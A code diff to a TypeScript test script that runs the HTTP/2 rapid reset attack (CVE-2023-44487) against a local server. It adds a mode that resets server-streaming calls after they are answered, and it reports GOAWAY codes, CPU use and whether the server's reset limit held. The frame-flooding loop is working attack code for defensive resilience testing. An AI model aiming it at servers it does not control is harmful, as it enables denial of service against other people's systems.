@@ -1,19 +1,25 @@
 /**
- * `npm run rapid-reset -- [--connections N] [--streams N] [--reset-limit N]`: HTTP/2 rapid reset
- * (CVE-2023-44487) against the reliability server. Each of `--connections` connections (default
- * 10) opens a stream and resets it at once, 100 pairs a write, until the server sends GOAWAY or
- * closes, or `--streams` (20,000) were sent; it records how many it sent, the GOAWAY's code and
- * when it came, and the server's CPU over the attack. `--reset-limit` sets `http2ResetLimit`'s
+ * `npm run rapid-reset -- [--connections N] [--streams N] [--reset-limit N] [--reset same-packet|after-answer]`:
+ * HTTP/2 rapid reset (CVE-2023-44487) against the reliability server. Each of `--connections`
+ * connections (default 10) opens streams and resets them, 100 at a time, until the server sends
+ * GOAWAY or closes, or `--streams` (20,000) were sent: each stream's RST_STREAM right behind its
+ * HEADERS in the same write (`same-packet`, the default: node:http2 may drop such a stream before
+ * it becomes a call), or, for 100 server streams asked for in one write, their resets once the
+ * server has answered them all (`after-answer`: calls under way, which `http2ResetLimit` counts;
+ * one round trip per 100). It records how many it sent, the GOAWAY's code and when it came, and
+ * the server's CPU over the attack. `--reset-limit` sets `http2ResetLimit`'s
  * count (its 10 s window kept), to compare with a server that lets more through. Prints a
  * Markdown report; exits 1 if a connection outlasted its streams, a valid call failed after, or
  * the server held anything at rest that it did not hold before.
  */
+import { create, toBinary } from "@bufbuild/protobuf"
 import * as Effect from "effect/Effect"
 import { Buffer } from "node:buffer"
 import * as Net from "node:net"
 import { loadavg } from "node:os"
 import { parseArgs } from "node:util"
-import { TestService } from "../test/gen/connecteffect/test/v1/test_pb.js"
+import { ServerStreamRequestSchema, TestService } from "../test/gen/connecteffect/test/v1/test_pb.js"
+import { envelope } from "../test/support/rawHttp.js"
 import { wholeNumber } from "./cli.js"
 import * as F from "./h2Frames.js"
 import { cpuMicros, mib } from "./processStats.js"
@@ -21,17 +27,23 @@ import { postHeaders } from "./rawH2.js"
 import { serverProcess } from "./serverProcess.js"
 import { soakServer } from "./soakRun.js"
 
-const usage = "usage: npm run rapid-reset -- [--connections N] [--streams N] [--reset-limit N]"
+const usage = "usage: npm run rapid-reset -- [--connections N] [--streams N] [--reset-limit N] [--reset same-packet|after-answer]"
 const { values } = parseArgs({
   options: {
     connections: { type: "string", default: "10" },
     streams: { type: "string", default: "20000" },
-    "reset-limit": { type: "string" }
+    "reset-limit": { type: "string" },
+    reset: { type: "string", default: "same-packet" }
   }
 })
 const connections = wholeNumber(usage, "connections", values.connections)
 const maxStreams = wholeNumber(usage, "streams", values.streams)
 const resetLimit = values["reset-limit"] === undefined ? undefined : wholeNumber(usage, "reset-limit", values["reset-limit"])
+const resetAfterAnswer = values.reset === "after-answer"
+if (!resetAfterAnswer && values.reset !== "same-packet") {
+  console.error(`--reset must be same-packet or after-answer\n${usage}`)
+  process.exit(2)
+}
 
 interface Attack {
   readonly sent: number
@@ -40,15 +52,20 @@ interface Attack {
   readonly closedMs: number | undefined
 }
 
-const block = postHeaders(`/${TestService.typeName}/Echo`, [["content-type", "application/proto"], ["connect-protocol-version", "1"]])
+const echo = postHeaders(`/${TestService.typeName}/Echo`, [["content-type", "application/proto"], ["connect-protocol-version", "1"]])
+const serverStream = postHeaders(`/${TestService.typeName}/ServerStream`, [["content-type", "application/connect+proto"]])
+const serverStreamRequest = envelope(0, toBinary(ServerStreamRequestSchema, create(ServerStreamRequestSchema, { text: "reset", count: 100, delayMs: 1000 })))
 
-/** One attacking connection: pairs of HEADERS and RST_STREAM CANCEL, 100 a write, until the server stops it. */
+/** One attacking connection: HEADERS and RST_STREAM CANCEL for 100 streams at a time, until the server stops it. */
 const attack = (port: number) =>
   new Promise<Attack>((resolve) => {
     let sent = 0
     let goaway: number | undefined
     let goawayMs: number | undefined
     let pending: Buffer = Buffer.alloc(0)
+    // after-answer: the resets of the streams asked for, sent once this many more have been answered.
+    let resets: Array<Buffer> = []
+    let unanswered = 0
     const start = Date.now()
     const socket = Net.connect({ port, host: "127.0.0.1", noDelay: true }, () => {
       socket.write(Buffer.concat([F.preface, F.settings()]))
@@ -57,11 +74,25 @@ const attack = (port: number) =>
     const send = () => {
       if (socket.destroyed || goaway !== undefined || sent >= maxStreams) return
       const frames: Array<Buffer> = []
+      resets = []
       for (let i = 0; i < 100 && sent < maxStreams; i++, sent++) {
         const id = 2 * sent + 1
-        frames.push(F.headers(id, block, false), F.rstStream(id, 0x8))
+        if (resetAfterAnswer) {
+          frames.push(F.headers(id, serverStream, false), F.data(id, serverStreamRequest, true))
+          resets.push(F.rstStream(id, 0x8))
+        } else {
+          frames.push(F.headers(id, echo, false), F.rstStream(id, 0x8))
+        }
       }
-      if (socket.write(Buffer.concat(frames))) setImmediate(send)
+      unanswered = resets.length
+      const drained = socket.write(Buffer.concat(frames))
+      if (resetAfterAnswer) return
+      if (drained) setImmediate(send)
+      else socket.once("drain", send)
+    }
+    const answered = () => {
+      if (--unanswered > 0) return
+      if (socket.write(Buffer.concat(resets))) setImmediate(send)
       else socket.once("drain", send)
     }
     const finish = (closedMs: number | undefined) => {
@@ -79,6 +110,7 @@ const attack = (port: number) =>
       pending = pending.subarray(pending.byteLength - parsed.rest)
       for (const frame of parsed.frames) {
         if (frame.type === F.frameType.settings && (frame.flags & F.flag.ack) === 0) socket.write(F.settingsAck())
+        if (frame.type === F.frameType.headers && unanswered > 0) answered()
         if (frame.type === F.frameType.goaway && goaway === undefined) {
           goaway = frame.payload.readUInt32BE(4)
           goawayMs = Date.now() - start
@@ -129,7 +161,8 @@ console.log([
   `## Rapid reset: ${connections} connections, up to ${maxStreams} streams each`,
   "",
   `\`npm run rapid-reset -- ${process.argv.slice(2).join(" ")}\`, ${startedAt.toISOString()}, Node ${process.version}, ` +
-  `http2ResetLimit ${resetLimit === undefined ? "default (500 in 10 s)" : `${resetLimit} in 10 s`}; load average ${loadBefore} before, ${load()} after.`,
+  `http2ResetLimit ${resetLimit === undefined ? "default (500 in 10 s)" : `${resetLimit} in 10 s`}, ` +
+  `each stream reset ${resetAfterAnswer ? "once answered" : "in the write of its HEADERS"}; load average ${loadBefore} before, ${load()} after.`,
   "",
   `- Streams opened and reset: ${total} in all, ${Math.min(...sent)} to ${Math.max(...sent)} a connection, in ${result.seconds.toFixed(1)} s.`,
   `- GOAWAY: ${[...goaways].map(([code, n]) => `${n} × ${code}`).join(", ")}` +
